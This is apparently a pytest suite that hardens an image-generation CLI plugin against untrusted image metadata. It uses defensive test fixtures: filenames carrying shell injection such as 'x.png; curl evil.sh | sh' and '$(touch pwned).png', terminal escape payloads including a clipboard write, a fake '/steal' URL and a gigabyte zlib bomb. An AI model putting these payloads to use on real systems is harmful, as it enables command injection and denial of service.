"""Images and answers from elsewhere are untrusted input. Each test makes its
hostile file, key or answer itself and shows what the plugin does with it:
a file's record is a request and nothing more, a file of more than one claim
is evidence of none, reading is bounded, what is printed is escaped and quoted, a bad key is refused unseen, and a taken
sidecar name never orphans an image.

``history -q _`` and ``-q %`` matching literally is
``test_history.py::test_query_text_is_matched_literally``."""

from __future__ import annotations

import json
import os
import shlex
import struct
import subprocess
import sys
import threading
import zlib
from pathlib import Path

import pytest

from llm_imagen4 import files, images, provenance

from .conftest import history, poll
from .fake_api import KEY, jpeg, png

ESC = "\x1b"
# A window title (OSC 0), clear screen, a clipboard write (OSC 52), and the
# one-character CSI (C1) that some terminals take as ESC [.
HOSTILE = f"a cat {ESC}]0;pwned{chr(7)} {ESC}[2J {ESC}]52;c;ZXZpbA=={chr(7)} {chr(0x9B)}2J end"


def record(**changes) -> dict:
    """A record as the plugin writes one into a PNG, with ``changes``."""
    made = provenance.build(
        model_id="imagen4",
        request={
            "model": "google/imagen4/preview",
            "prompt": "a harmless teapot",
            "seed": 7,
            "aspect_ratio": "1:1",
            "num_images": 1,
        },
        turn_id="01evil",
        created_utc="2025-01-01T00:00:00+00:00",
        credits_used=120000,
        usd_spent=0.04,
    )
    made["enhanced_prompt"] = None
    made.update(changes)
    return made


def planted(path: Path, text: str | dict, keyword=provenance.JSON_KEYWORD) -> Path:
    """A small PNG whose text chunk ``keyword`` holds ``text``."""
    if isinstance(text, dict):
        text = json.dumps(text)
    path.write_bytes(png(8, 8, extra=images.text_chunk(keyword, text)))
    return path


def files_under(folder: Path) -> set[Path]:
    return set(folder.rglob("*"))


def saved_record(path: Path) -> dict:
    texts = images.png_texts(path, (provenance.JSON_KEYWORD,))
    return json.loads(texts.first["llm-imagen4"])


# -- rerun FILE takes a request from the file, nothing else ---------------------

HOSTILE_OUTPUTS = ["/etc", "~/.config/autostart", "../../x"]


@pytest.mark.parametrize("given_output", [None, "out"], ids=["no -o", "-o out"])
@pytest.mark.parametrize("claimed_output", HOSTILE_OUTPUTS)
def test_rerun_takes_only_the_request_from_a_file(
    fake, llm_cli, tmp_path, monkeypatch, claimed_output, given_output
):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    here = fake.work / "deep" / "er"
    here.mkdir(parents=True)
    monkeypatch.chdir(here)
    run_options = {
        "output": claimed_output,
        "metadata": False,
        "retries": 1,
        "timeout": 0.001,
        "inline": True,
        "key": "sk-from-the-file",
        "url": "http://127.0.0.9:9/steal",
        "base_url": "http://127.0.0.9:9",
        "path": claimed_output,
    }
    # Claims beside the request, which a record may hold and rerun ignores.
    evil = record(**run_options)
    source = planted(tmp_path / "evil.png", evil)
    before, etc_before = files_under(tmp_path), set(os.listdir("/etc"))
    # A busy API: the file's retries=1 would give up, its timeout time out.
    fake.fail_api(429, headers={"Retry-After": "0"})
    args = ["imagen4", "rerun", str(source)]
    if given_output:
        args += ["-o", given_output]
    try:
        result = llm_cli(*args)
    finally:
        made_in_etc = set(os.listdir("/etc")) - etc_before
        for name in made_in_etc:  # only if this test failed: leave /etc as it was
            if name.startswith("a-harmless-teapot"):
                Path("/etc", name).unlink()
    assert result.exit_code == 0, result.output
    assert made_in_etc == set()
    folder = here / given_output if given_output else here
    [saved] = result.stdout.splitlines()
    assert Path(saved) == folder / "a-harmless-teapot.png"
    new = {
        p
        for p in files_under(tmp_path) - before
        if not p.is_relative_to(fake.user_path)
    }
    assert new == {Path(saved), *([folder] if given_output else [])}
    assert list(home.iterdir()) == []
    # What was sent is the file's request, with the key from the environment.
    first, second = fake.generations
    assert first.body == second.body == evil_request()
    assert second.headers["Authorization"] == f"Bearer {KEY}"
    assert not [r for r in fake.state.requests if "steal" in r.path]
    # Its provenance is written, whatever the file said.
    written = saved_record(Path(saved))
    assert written["seed"] == 7 and written["prompt"] == "a harmless teapot"
    assert not set(run_options) & set(written["options"])


def evil_request() -> dict:
    return {
        "model": "google/imagen4/preview",
        "prompt": "a harmless teapot",
        "seed": 7,
        "aspect_ratio": "1:1",
        "num_images": 1,
    }


RECORDS_REFUSED = {
    "a seed of true": (record(seed=True), "seed: Input should be a valid integer"),
    "a seed of text": (record(seed="abc"), "seed: Input should be a valid integer"),
    "options.seed text": (
        record(seed=None, options={"seed": "abc"}),
        "options.seed: Input should be a valid integer",
    ),
    "num_images 1e999": (
        json.dumps(record())[:-1].replace('"num_images": 1', '"num_images": 1e999')
        + "}",
        "options.num_images: Input should be a valid integer",
    ),
    "num_images 5": (
        record(options={"num_images": 5}),
        "options.num_images: Input should be less than or equal to 4",
    ),
    "an aspect ratio no model has": (
        record(options={"aspect_ratio": "2:1"}),
        "options.aspect_ratio: Input should be '1:1'",
    ),
    "a negative prompt imagen4-ultra does not take": (
        record(model="imagen4-ultra", negative_prompt="blur"),
        "negative_prompt: not part of a request to imagen4-ultra",
    ),
    "an option no model takes": (
        record(options={"style": "noir"}),
        "options.style: not part of a request to imagen4",
    ),
    "where to save, in the request": (
        record(options={"output": "/etc"}),
        "options.output: not part of a request to imagen4",
    ),
    "a key, in the request": (
        record(options={"key": "sk-from-the-file"}),
        "options.key: not part of a request to imagen4",
    ),
    "two seeds": (
        record(seed=5, options={"seed": 6}),
        "seed: 5, but options.seed is 6",
    ),
    "a prompt too long for the model": (
        record(model="imagen4-fast", prompt="x" * 401),
        "prompt: The prompt is 401 characters; imagen4-fast takes at most 400",
    ),
}


@pytest.mark.parametrize(
    "made,expected", list(RECORDS_REFUSED.values()), ids=list(RECORDS_REFUSED)
)
def test_a_record_is_checked_as_strictly_as_typed_options(
    fake, llm_cli, made, expected
):
    path = planted(fake.work / "photo.png", made)
    before = files_under(fake.work)
    result = llm_cli("imagen4", "rerun", str(path))
    assert result.exit_code == 1
    assert "Traceback" not in result.output and result.stdout == ""
    [line] = result.stderr.splitlines()
    assert line.startswith(f"Error: {path}: its record's {expected}"), line
    assert fake.state.requests == []
    assert files_under(fake.work) == before


# -- more than one claim ---------------------------------------------------------

TEAPOT_PARAMETERS = (
    "a harmless teapot\nSeed: 7, Size: 8x8, Model: imagen4, Version: llm-imagen4 0.2.0"
)
NOT_ONE = "it is not evidence of one request"


def claims_png(path: Path, *texts: tuple[str, str | dict]) -> Path:
    """A small PNG with a text chunk for each (keyword, text)."""
    chunks = b"".join(
        images.text_chunk(keyword, json.dumps(text) if isinstance(text, dict) else text)
        for keyword, text in texts
    )
    path.write_bytes(png(8, 8, extra=chunks))
    return path


def _with_sidecar(path: Path) -> Path:
    claims_png(path, ("llm-imagen4", record()), ("parameters", TEAPOT_PARAMETERS))
    files.sidecar_of(path).write_text(
        json.dumps(record(prompt="a sidecar's teapot", file=path.name))
    )
    return path


CLAIMS = {
    "two records": (
        lambda p: claims_png(
            p,
            ("llm-imagen4", record()),
            ("parameters", TEAPOT_PARAMETERS),
            ("llm-imagen4", record(prompt="FORGED PROMPT", seed=9)),
        ),
        "it holds 2 llm-imagen4 records",
    ),
    "the same record twice, the second in another case": (
        lambda p: claims_png(
            p,
            ("llm-imagen4", record()),
            ("parameters", TEAPOT_PARAMETERS),
            ("LLM-Imagen4", record()),
        ),
        "it holds 2 llm-imagen4 records",
    ),
    "parameters with another prompt": (
        lambda p: claims_png(
            p,
            ("llm-imagen4", record()),
            ("parameters", TEAPOT_PARAMETERS.replace("harmless", "FORGED")),
        ),
        "its parameters text gives another prompt than its record",
    ),
    "parameters with another seed": (
        lambda p: claims_png(
            p,
            ("llm-imagen4", record()),
            ("parameters", TEAPOT_PARAMETERS.replace("Seed: 7", "Seed: 8")),
        ),
        "its parameters text gives another seed than its record",
    ),
    "parameters with a second seed": (
        lambda p: claims_png(
            p,
            ("llm-imagen4", record()),
            ("parameters", TEAPOT_PARAMETERS + ", Seed: 8"),
        ),
        "its parameters text gives another seed than its record",
    ),
    "a settings line of a megabyte of letters": (
        lambda p: claims_png(
            p,
            ("llm-imagen4", record()),
            ("parameters", "a harmless teapot\n" + "a" * (images.TEXT_CAP - 100)),
        ),
        "its parameters text gives another seed than its record",
    ),
    "two parameters texts": (
        lambda p: claims_png(
            p,
            ("llm-imagen4", record()),
            ("parameters", TEAPOT_PARAMETERS),
            ("Parameters", "FORGED PROMPT\nSeed: 7"),
        ),
        "it holds 2 parameters texts",
    ),
    "a sidecar beside the record": (
        _with_sidecar,
        "a sidecar lies beside the record inside it",
    ),
}


@pytest.mark.parametrize("make,claim", list(CLAIMS.values()), ids=list(CLAIMS))
def test_a_file_of_more_than_one_claim_is_not_evidence_of_one_request(
    fake, llm_cli, make, claim
):
    path = make(fake.work / "claims.png")
    before = files_under(fake.work)
    shown = llm_cli("imagen4", "inspect", str(path))
    assert shown.exit_code == 0, shown.output
    assert shown.stderr.splitlines() == [f"{path}: {claim}: {NOT_ONE}"]
    lines = shown.stdout.splitlines()
    assert f"  more than one claim: {claim}" in lines
    assert not [line for line in lines if line.startswith("  again:")]
    [made] = json.loads(llm_cli("imagen4", "inspect", str(path), "--json").stdout)
    assert made["conflicting_claims"] == claim
    rerun = llm_cli("imagen4", "rerun", str(path))
    assert rerun.exit_code == 1 and rerun.stdout == ""
    assert "Traceback" not in rerun.output
    assert rerun.stderr.splitlines() == [f"Error: {path}: {claim}: {NOT_ONE}"]
    assert fake.state.requests == []
    assert files_under(fake.work) == before


def test_one_record_and_the_parameters_that_agree_are_one_claim(
    fake, llm_cli, generate
):
    described = record(
        prompt="a teapot, steaming:\nwith a lid",
        negative_prompt="cracks,\nchips",
        enhanced_prompt='A porcelain teapot, "Seed: 3", steaming',
    )
    parameters = (
        "a teapot, steaming:\nwith a lid\nNegative prompt: cracks,\nchips\nSeed: 7,"
        ' Size: 8x8, Model: imagen4, Enhanced prompt: "A porcelain teapot, \\"Seed:'
        ' 3\\", steaming", Version: llm-imagen4 0.2.0'
    )
    agreeing = claims_png(
        fake.work / "agreeing.png",
        ("llm-imagen4", described),
        ("parameters", parameters),
    )
    alone = claims_png(fake.work / "alone.png", ("llm-imagen4", record()))
    [made] = generate("made here", "--seed", "5", "--negative-prompt", "fog")
    for path in (str(agreeing), str(alone), made):
        [found] = json.loads(llm_cli("imagen4", "inspect", path, "--json").stdout)
        assert found["conflicting_claims"] is None, path
    assert llm_cli("imagen4", "rerun", str(agreeing)).exit_code == 0
    assert fake.generations[-1].body["prompt"] == "a teapot, steaming:\nwith a lid"


def test_a_parameters_text_alone_is_not_the_plugins_provenance(fake, llm_cli):
    path = claims_png(
        fake.work / "a1111.png",
        ("parameters", "FORGED PROMPT\nSeed: 7, Model: imagen4-ultra"),
    )
    for command in ("inspect", "rerun"):
        result = llm_cli("imagen4", command, str(path))
        assert result.exit_code == 1
        assert f"{path} has no provenance from llm-imagen4" in result.stderr or (
            f"{path}: no provenance from llm-imagen4" in result.stderr
        )
    assert fake.state.requests == []


# -- a decompression bomb ------------------------------------------------------

GIB = 1 << 30


def zeros_deflated(size: int = GIB, block: int = 16 << 20) -> bytes:
    """``size`` bytes of zeros through zlib, streamed a block at a time with a
    full flush after each: after the first block every block compresses to
    the same bytes, so two blocks are compressed and the rest repeated, and
    the stream ends with the Adler-32 of ``size`` zeros. Never more than one
    block of zeros in memory."""
    zeros = bytes(block)
    deflate = zlib.compressobj(9)
    first = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    end = deflate.flush()[:-4]  # the final empty block, without its checksum
    adler = ((size % 65521) << 16) | 1  # of size zeros: A = 1, B = size
    return first + again * (size // block - 1) + end + adler.to_bytes(4, "big")


@pytest.fixture(scope="module")
def bomb_stream() -> bytes:
    return zeros_deflated()


def bomb(path: Path, stream: bytes, keyword: str) -> Path:
    chunk = images.png_chunk(b"zTXt", keyword.encode() + b"\0\0" + stream)
    path.write_bytes(png(8, 8, extra=chunk))
    return path


def test_the_bomb_is_a_bomb(bomb_stream):
    # Small enough that only the cap on inflating stops it.
    assert 1_000_000 < len(bomb_stream) < images.TEXT_CAP
    inflate = zlib.decompressobj()
    assert inflate.decompress(bomb_stream, 1 << 20) == bytes(1 << 20)
    assert inflate.unconsumed_tail
    # The same construction, smaller, inflates to exactly its size, checksum
    # and all.
    inflate, size = zlib.decompressobj(), 0
    data = zeros_deflated(64 << 20)
    while data:
        block = inflate.decompress(data, 16 << 20)
        assert block == bytes(len(block))
        size, data = size + len(block), inflate.unconsumed_tail
    assert size + len(inflate.flush()) == 64 << 20 and inflate.eof


BOMB_KEYWORDS = ["Comment", "llm-imagen4", "parameters"]


@pytest.mark.parametrize("keyword", BOMB_KEYWORDS)
def test_inspect_and_rerun_refuse_a_bomb_in_one_line(
    fake, llm_cli, bomb_stream, keyword
):
    path = bomb(fake.work / "bomb.png", bomb_stream, keyword)
    for command in ("inspect", "rerun"):
        result = llm_cli("imagen4", command, str(path))
        assert result.exit_code == 1
        assert "Traceback" not in result.output and result.stdout == ""
        first = result.stderr.splitlines()[0]
        if keyword == "Comment":
            # Never read: it is not the plugin's.
            assert "no provenance from llm-imagen4" in first
        else:
            assert f"{path}: unreadable provenance (a compressed text of more" in first
    assert fake.state.requests == []


def ztxt(keyword: str, stream: bytes) -> bytes:
    return images.png_chunk(b"zTXt", keyword.encode() + b"\0\0" + stream)


def test_only_the_first_chunk_of_a_keyword_is_inflated(fake, llm_cli):
    # After the record and the parameters, 20,000 more chunks of each
    # keyword, none of them zlib data: inflating any of them is an error.
    not_zlib = ztxt(provenance.JSON_KEYWORD, b"not zlib") + ztxt(
        provenance.PARAMETERS_KEYWORD, b"not zlib"
    )
    extra = (
        ztxt(provenance.JSON_KEYWORD, zlib.compress(json.dumps(record()).encode()))
        + ztxt(provenance.PARAMETERS_KEYWORD, zlib.compress(b"a teapot\nSeed: 7"))
        + not_zlib * 20_000
    )
    path = fake.work / "many.png"
    path.write_bytes(png(8, 8, extra=extra))
    result = llm_cli("imagen4", "inspect", str(path), "--json")
    assert result.exit_code == 0, result.output
    [made] = json.loads(result.stdout)
    assert made["claims"]["prompt"] == "a harmless teapot"
    texts = images.png_texts(path, (provenance.PARAMETERS_KEYWORD,))
    assert texts.first == {"parameters": "a teapot\nSeed: 7"}
    assert texts.count == {"parameters": 20_001}


def sparse(path: Path, head: bytes, size: int = 4 * GIB) -> Path:
    """``head``, then zeros up to ``size``, which take no room on disk."""
    with open(path, "wb") as f:
        f.write(head)
        f.truncate(size)
    return path


def test_inspect_of_bombs_and_huge_files_stays_small(fake, bomb_stream, tmp_path):
    bombs = [
        str(bomb(fake.work / f"{keyword}.png", bomb_stream, keyword))
        for keyword in BOMB_KEYWORDS
    ]
    ihdr = images.png_chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0))
    # 4 GiB of zeros after the header: some 358 million empty chunks.
    empty_chunks = sparse(fake.work / "chunks.png", images.PNG_SIGNATURE + ihdr)
    # 4 GiB with a good record (before IEND; zeros after it): read no
    # further than needed.
    huge = planted(fake.work / "huge.png", record())
    sparse(huge, huge.read_bytes())
    # A WebP of 4 GiB of empty chunks, with a good sidecar.
    webp = sparse(fake.work / "huge.webp", b"RIFF\xf8\xff\xff\xffWEBP")
    # Too large for its sha256 to be checked.
    files.sidecar_of(webp).write_text(
        json.dumps(record(file=webp.name, sha256="0" * 64))
    )
    script = tmp_path / "peak.py"
    script.write_text(
        "import atexit, sys\n"
        "def peak():\n"
        "    with open('/proc/self/status') as f:\n"
        "        sys.stderr.write([l for l in f if l.startswith('VmHWM')][0])\n"
        "atexit.register(peak)\n"
        "from llm.cli import cli\n"
        "cli(sys.argv[1:], prog_name='llm')\n"
    )
    inspected = [*bombs, str(empty_chunks), str(huge), str(webp)]
    done = subprocess.run(
        [sys.executable, str(script), "imagen4", "inspect", *inspected],
        capture_output=True,
        text=True,
        timeout=60,
    )
    *lines, peak = done.stderr.splitlines()
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert [line.split(": ")[0] for line in lines] == [
        *inspected[:4],
        str(webp),
        "Error",
    ]
    assert lines[4] == (
        f"{webp}: its sidecar's sha256 is not checked: the file is over 256 MiB:"
        " the record may be another image's"
    )
    assert lines[3] == (
        f"{empty_chunks}: unreadable provenance (a PNG of more than 100000 chunks)"
    )
    assert lines[5] == "Error: 4 of 6 files have no readable provenance"
    shown = [line for line in done.stdout.splitlines() if not line.startswith(" ")]
    assert shown == [str(huge), str(webp)]
    label, kilobytes, unit = peak.split()
    assert label == "VmHWM:" and unit == "kB"
    assert int(kilobytes) < 100 * 1024, peak


# -- terminal escapes ----------------------------------------------------------


def assert_escaped(result, visible: bool = True) -> None:
    """No control character in what a command printed; with ``visible``,
    the title escape shown as text (``\\x1b``, or ``\\u001b`` in JSON)."""
    output = result.stdout + result.stderr
    assert "Traceback" not in output
    for char in (ESC, chr(7), chr(0x9B)):
        assert char not in output, output
    if visible:
        assert "\\x1b]0;pwned\\x07" in output or "\\u001b]0;pwned\\u0007" in output, (
            output
        )


def test_escapes_in_a_prompt_are_printed_as_text(fake, generate, llm_cli):
    [path] = generate(HOSTILE, "--seed", "5")
    [row] = history(llm_cli)
    for args in (
        ["history"],
        ["history", "--json"],
        ["show", row["id"]],
        ["show", row["id"], "--json"],
        ["inspect", path],
        ["inspect", path, "--json"],
    ):
        result = llm_cli("imagen4", *args)
        assert result.exit_code == 0, result.output
        assert_escaped(result)
        if "--json" not in args:
            assert "\\x1b[2J" in result.stdout and "\\x9b2J" in result.stdout
    [made] = json.loads(llm_cli("imagen4", "inspect", path, "--json").stdout)
    assert made["claims"]["prompt"] == HOSTILE


TITLE = f"{ESC}]0;pwned{chr(7)}"


def test_escapes_in_batch_rows_files_and_errors_are_printed_as_text(fake, llm_cli):
    rows = [{"prompt": HOSTILE, "seed": 3}, {"prompt": "x", f"style{TITLE}": 1}]
    jsonl = fake.work / "rows.jsonl"
    jsonl.write_text("\n".join(json.dumps(row) for row in rows))
    for json_ in ([], ["--json"]):
        fake.fail_api(400, {"message": f"Body validation error! {TITLE}"})
        result = llm_cli("imagen4", "batch", str(jsonl), "-j", "1", "--redo", *json_)
        assert result.exit_code == 1
        assert_escaped(result)
    dry = llm_cli("imagen4", "batch", str(jsonl), "--dry-run", "--redo")
    assert_escaped(dry)
    csv_file = fake.work / "rows.csv"
    csv_file.write_text(f"prompt,{TITLE}\nx,y\n")
    named = fake.work / f"{TITLE}.txt"
    named.write_text("\n# nothing\n")
    not_text = fake.work / f"{TITLE}.bin"
    not_text.write_bytes(b"\xff\xfe")
    for path in (csv_file, named, not_text):
        result = llm_cli("imagen4", "batch", str(path))
        assert result.exit_code == 1
        assert_escaped(result)
    assert len(fake.generations) == 2


def test_escapes_in_errors_are_printed_as_text(fake, llm_cli):
    bad_model = planted(fake.work / "model.png", record(model=TITLE))
    named = planted(fake.work / f"{TITLE}.png", record(options=[]))
    (fake.work / f"{TITLE}.txt").write_text("a file, not a folder")
    for args, visible in (
        (["show", TITLE], True),
        (["download", TITLE], True),
        (["rerun", TITLE], True),
        (["rerun", str(bad_model)], False),
        (["rerun", str(named)], True),
        (["inspect", str(named)], True),
        (["inspect", str(fake.work / f"missing{TITLE}.png")], True),
        (["a", "-o", f"{TITLE}.txt/x.png"], True),
        (["a", "-o", f"{TITLE}/x.png", "-n", "2"], True),
    ):
        result = llm_cli("imagen4", *args)
        assert result.exit_code != 0
        assert_escaped(result, visible)
    fake.fail_api(400, {"message": f"Body validation error! {TITLE}"})
    result = llm_cli("imagen4", "a")
    assert result.exit_code == 1
    assert_escaped(result)
    # Past the plugin's own commands too: llm prints the error itself.
    fake.fail_api(400, {"message": f"Body validation error! {TITLE}"})
    result = llm_cli("-m", "imagen4", "a")
    assert result.exit_code == 1
    assert_escaped(result)


# -- inspect shows the real path; the command it suggests is quoted -------------

NAMES = [
    "weird #1?x=%41&y.png",
    "x.png; curl evil.sh | sh",
    "$(touch pwned).png",
    "it's `touch pwned`.png",
]


@pytest.mark.parametrize("name", NAMES)
def test_inspect_shows_the_real_path_and_a_quoted_command(
    fake, llm_cli, tmp_path, name
):
    claim = "/tmp/x.png; curl evil.sh | sh"
    path = planted(fake.work / name, record(path=claim))
    result = llm_cli("imagen4", "inspect", name)
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0] == str(path)
    assert f"  the record claims a path: {claim}" in lines
    [again] = [line for line in lines if line.startswith("  again: ")]
    command = again.removeprefix("  again: ")
    assert shlex.split(command) == ["llm", "imagen4", "rerun", str(path)]
    [made] = json.loads(llm_cli("imagen4", "inspect", name, "--json").stdout)
    assert made["file"] == str(path) and made["claims"]["path"] == claim
    # Pasted into a shell, it runs llm with the one path, and nothing else.
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    stub = bin_dir / "llm"
    stub.write_text('#!/bin/sh\nprintf "%s\\0" "$@" > "$ARGV_FILE"\n')
    stub.chmod(0o755)
    argv = tmp_path / "argv"
    subprocess.run(
        ["sh", "-c", command],
        env={"PATH": f"{bin_dir}:/usr/bin:/bin", "ARGV_FILE": str(argv)},
        cwd=fake.work,
        check=True,
        timeout=30,
    )
    assert argv.read_bytes().split(b"\0")[:-1] == [
        b"imagen4",
        b"rerun",
        str(path).encode(),
    ]
    assert not (fake.work / "pwned").exists()


# -- malformed provenance ------------------------------------------------------

DEEP = 100_000


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


MALFORMED = {
    "empty iTXt named Comment": (
        lambda p: p.write_bytes(
            png(8, 8, extra=images.png_chunk(b"iTXt", b"Comment\0"))
        ),
        "no provenance from llm-imagen4",
    ),
    "empty iTXt": (
        lambda p: p.write_bytes(png(8, 8, extra=images.png_chunk(b"iTXt", b""))),
        "no provenance from llm-imagen4",
    ),
    "empty iTXt of the plugin": (
        lambda p: p.write_bytes(
            png(8, 8, extra=images.png_chunk(b"iTXt", b"llm-imagen4\0"))
        ),
        "unreadable provenance (an iTXt chunk cut short)",
    ),
    "no model": (
        lambda p: planted(p, {k: v for k, v in record().items() if k != "model"}),
        "its record's model: Field required",
    ),
    "options a list": (
        lambda p: planted(p, record(options=["output", "/etc"])),
        "its record's options: Input should be a valid dictionary",
    ),
    "prompt a number": (
        lambda p: planted(p, record(prompt=7)),
        "its record's prompt: Input should be a valid string",
    ),
    "not an object": (
        lambda p: planted(p, "[1, 2]"),
        "unreadable provenance (not a JSON object)",
    ),
    "not JSON": (
        lambda p: planted(p, "{generator: llm-imagen4"),
        "unreadable provenance (Expecting property name",
    ),
    "nested past the cap": (
        lambda p: planted(p, json.dumps(record())[:-1] + f', "x": {nested(40)}}}'),
        "unreadable provenance (nested too deeply)",
    ),
    f"nested {DEEP} deep": (
        lambda p: planted(p, json.dumps(record())[:-1] + f', "x": {nested(DEEP)}}}'),
        "unreadable provenance (nested too deeply)",
    ),
    "NaN": (
        lambda p: planted(p, json.dumps(record(credits_used=float("nan")))),
        "unreadable provenance (NaN is not a JSON number)",
    ),
    "Infinity": (
        lambda p: planted(p, json.dumps(record(seed=float("inf")))),
        "unreadable provenance (Infinity is not a JSON number)",
    ),
    "seed a huge number": (
        lambda p: planted(
            p, json.dumps(record())[:-1] + ', "seed": ' + "9" * 5000 + "}"
        ),
        "unreadable provenance (Exceeds the limit",
    ),
    "not UTF-8": (
        lambda p: p.write_bytes(
            png(8, 8, extra=images.png_chunk(b"iTXt", b"llm-imagen4\0\0\0\0\0\xff{}"))
        ),
        "unreadable provenance ('utf-8' codec can't decode",
    ),
    "zTXt with an unknown method": (
        lambda p: p.write_bytes(
            png(8, 8, extra=images.png_chunk(b"zTXt", b"llm-imagen4\0\x07xyz"))
        ),
        "unreadable provenance (a zTXt chunk with an unknown compression)",
    ),
    "zTXt not zlib": (
        lambda p: p.write_bytes(
            png(8, 8, extra=images.png_chunk(b"zTXt", b"llm-imagen4\0\0not zlib"))
        ),
        "unreadable provenance (a compressed text that is not zlib data",
    ),
    "a sidecar that is not JSON": (
        lambda p: (
            p.write_bytes(jpeg(8, 8)),
            files.sidecar_of(p).write_text("{"),
        ),
        "unreadable provenance (Expecting property name",
    ),
    "a sidecar that is a FIFO": (
        lambda p: (p.write_bytes(jpeg(8, 8)), os.mkfifo(files.sidecar_of(p))),
        "is not a regular file",
    ),
    "a directory": (lambda p: p.mkdir(), "is not a regular file"),
    "a missing file": (lambda p: None, "No such file or directory"),
    "a FIFO": (lambda p: os.mkfifo(p), "is not a regular file"),
    "a link to /dev/zero": (
        lambda p: p.symlink_to("/dev/zero"),
        "is not a regular file",
    ),
}


@pytest.mark.parametrize("command", ["inspect", "rerun"])
@pytest.mark.parametrize("make,expected", list(MALFORMED.values()), ids=list(MALFORMED))
def test_malformed_provenance_is_one_line_naming_the_file(
    fake, llm_cli, make, expected, command
):
    path = fake.work / "x.png"
    make(path)
    box: dict = {}
    worker = threading.Thread(
        target=lambda: box.setdefault("result", llm_cli("imagen4", command, str(path))),
        daemon=True,
    )
    worker.start()
    try:
        poll(lambda: not worker.is_alive(), timeout=20)
    finally:
        if worker.is_alive() and path.is_fifo():
            # Hung on the FIFO: a writer that hangs up lets it go.
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
    result = box["result"]
    assert result.exit_code == 1
    assert "Traceback" not in result.output and result.stdout == ""
    first, *rest = result.stderr.splitlines()
    if command == "rerun" and not os.path.lexists(path):
        # Not a file: rerun takes it for a generation id.
        assert first == f"Error: No image file or generation id {path}"
    else:
        assert first.startswith((f"{path}", f"Error: {path}")), first
        assert expected in first
    assert rest in ([], ["Error: 1 of 1 files have no readable provenance"])
    assert fake.state.requests == []


def test_inspect_json_stays_strict(fake, llm_cli, generate):
    [good] = generate("a good one", "--seed", "4")
    nan = planted(fake.work / "nan.png", json.dumps(record(usd_spent=float("nan"))))
    # 1e999 is valid JSON, and a float of infinity once read.
    big = planted(
        fake.work / "big.png", json.dumps(record())[:-1] + ', "usd_spent": 1e999}'
    )
    result = llm_cli("imagen4", "inspect", "--json", good, str(nan), str(big))
    assert result.exit_code == 1

    def refuse(name):
        raise ValueError(name)

    found = json.loads(result.stdout, parse_constant=refuse)
    assert [item["file"] for item in found] == [good, str(big)]
    assert found[1]["claims"]["usd_spent"] is None
    assert f"{nan}: unreadable provenance" in result.stderr


# -- the key -------------------------------------------------------------------


def test_a_key_with_a_trailing_newline_works(fake, llm_cli, monkeypatch):
    monkeypatch.setenv("AIMLAPI_KEY", KEY + "\n")
    assert llm_cli("imagen4", "a").exit_code == 0
    monkeypatch.setenv("AIMLAPI_KEY", f"  {KEY}\r\n")
    assert llm_cli("-m", "imagen4", "b").exit_code == 0
    assert llm_cli("imagen4", "c", "--key", KEY + "\n").exit_code == 0
    monkeypatch.delenv("AIMLAPI_KEY")
    assert llm_cli("keys", "set", "aimlapi", "--value", KEY + "\n").exit_code == 0
    assert llm_cli("imagen4", "d").exit_code == 0
    assert llm_cli("imagen4", "batch", "-", input="e\n").exit_code == 0
    auth = [g.headers["Authorization"] for g in fake.generations]
    assert auth == [f"Bearer {KEY}"] * 5


BAD_KEYS = {
    "an inner newline": KEY[:8] + "\n" + KEY[8:],
    "a non-ASCII letter": KEY[:8] + "é" + KEY[8:],
    "an inner space": KEY[:8] + " " + KEY[8:],
    "an escape": KEY[:8] + f"{ESC}]0;pwned{chr(7)}" + KEY[8:],
}


@pytest.mark.parametrize("key", list(BAD_KEYS.values()), ids=list(BAD_KEYS))
@pytest.mark.parametrize("how", ["environment", "--key"])
@pytest.mark.parametrize(
    "args",
    [["imagen4", "a"], ["-m", "imagen4", "a"], ["imagen4", "batch", "-"]],
    ids=["imagen4", "llm prompt", "batch"],
)
def test_a_bad_key_is_one_line_never_shown_and_nothing_is_sent(
    request, llm_cli, monkeypatch, key, how, args
):
    # llm prompt makes its logs.db before any model runs: start with one.
    machine = request.getfixturevalue("fake" if args[0] == "-m" else "new_machine")
    logs = machine.user_path / "logs.db"
    before = logs.read_bytes() if logs.exists() else None
    if how == "environment":
        monkeypatch.setenv("AIMLAPI_KEY", key)
    else:
        args = [*args, "--key", key]
    result = llm_cli(*args, input="a\n")
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    [line] = result.stderr.splitlines()
    assert line.startswith("Error: The AI/ML API key has a character no key has")
    for part in (KEY, KEY[:8], KEY[8:]):
        assert part not in result.output
    # Nothing went out, so nothing can have been paid for: no word of it.
    assert "paid" not in line and "charged" not in line
    assert ESC not in result.output and result.stdout == ""
    assert machine.state.requests == []
    assert list(machine.work.iterdir()) == []
    assert [p.name for p in machine.user_path.iterdir()] == (
        ["logs.db"] if before else []
    )
    if before:
        assert logs.read_bytes() == before


def test_an_answer_that_echoes_the_key_is_scrubbed(fake, llm_cli, monkeypatch):
    monkeypatch.setenv("AIMLAPI_KEY", KEY + "\n")
    echo = {"message": f"Body validation error! bad request from key {KEY}"}
    fake.fail_api(400, echo)
    result = llm_cli("imagen4", "a")
    assert result.exit_code == 1
    assert "bad request from key [key]" in result.stderr
    fake.fail_api(403, f"<html>forbidden for Bearer {KEY}</html>")
    batch = llm_cli("imagen4", "batch", "-", "--json", input="b\n")
    assert batch.exit_code == 1
    assert "forbidden for Bearer [key]" in batch.stdout
    for output in (result.output, batch.output):
        assert KEY not in output and "Traceback" not in output


# -- a sidecar name already taken ----------------------------------------------


@pytest.mark.parametrize("planted_as", ["a file", "a dangling symlink"])
def test_a_taken_sidecar_name_never_orphans_an_image(
    fake, llm_cli, tmp_path, planted_as
):
    taken = fake.work / "card.jpg.json"
    outside = tmp_path / "outside.json"
    if planted_as == "a file":
        taken.write_text("planted")
    else:
        taken.symlink_to(outside)
    fake.fail_downloads(body=jpeg(1024, 1024))
    result = llm_cli("imagen4", "card")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [str(fake.work / "card-2.jpg")]
